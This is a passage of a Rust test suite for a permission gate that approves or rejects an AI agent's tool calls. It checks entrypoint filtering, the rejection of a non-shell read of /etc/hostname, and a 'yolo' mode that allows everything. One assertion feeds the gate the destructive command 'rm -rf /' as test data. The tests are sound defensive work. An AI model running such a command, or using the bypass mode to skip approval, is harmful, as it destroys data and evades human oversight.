            assert!(d.reason.contains(why), "{argv}: {}", d.reason);
        }
    }

    #[test]
    fn retain_genuine_entrypoints_drops_symlinked_missing_and_outside_ones() {
        let w = World::new();
        let mut rules = w.gate(false).rules.clone();
        rules.entrypoints.extend([
            "gone/scripts/gone".to_owned(),
            "/etc/hostname".to_owned(),
            "send-reply/scripts".to_owned(),
        ]);
        let dropped: Vec<String> = rules
            .retain_genuine_entrypoints()
            .into_iter()
            .map(|(entry, _)| entry)
            .collect();
        assert_eq!(
            rules.entrypoints,
            [
                "send-reply/scripts/send-reply",
                "memory-save/scripts/memory-save"
            ]
        );
        assert_eq!(
            dropped,
            [
                "linked/scripts/linked",
                "gone/scripts/gone",
                "/etc/hostname",
                "send-reply/scripts"
            ]
        );
    }

    #[test]
    fn decides_from_the_tool_call_and_yolo_allows_all() {
        let w = World::new();
        let call = json!({"toolCallId":"c1","title":"bash","kind":"execute",
            "rawInput":{"command": format!("{} --message-file a", w.reply()), "cwd": "/anywhere"}});
        assert!(w.gate(false).decide(&call, &w.workspace).allow);
        let read = json!({"toolCallId":"c2","title":"read","kind":"other","rawInput":{"filepath":"/etc/hostname"}});
        let d = w.gate(false).decide(&read, &w.workspace);
        assert!(
            !d.allow && d.reason.contains("not a shell command"),
            "{d:?}"
        );
        let yolo = PermissionGate::new(ApprovalRules::default(), true);
        assert!(yolo.decide(&read, &w.workspace).allow);
        assert!(yolo.decide_command("rm -rf /", &w.workspace).allow);
    }

    #[test]
    fn options_are_chosen_by_kind_not_position() {
        let options = json!([
            {"optionId":"reject","kind":"reject_once","name":"Reject"},
            {"optionId":"always","kind":"allow_always","name":"Always allow"},
            {"optionId":"once","kind":"allow_once","name":"Allow once"}
        ]);
        assert_eq!(
            permission_response(&options, true)["outcome"]["optionId"],
            "once"
        );
        assert_eq!(
            permission_response(&options, false)["outcome"]["optionId"],
            "reject"
        );
        let only_always = json!([{"optionId":"a","kind":"allow_always","name":"x"}]);
        assert_eq!(
            permission_response(&only_always, true)["outcome"]["outcome"],
            "cancelled"
        );
        assert_eq!(
            permission_response(&json!(null), false)["outcome"]["outcome"],
            "cancelled"
        );
    }
}
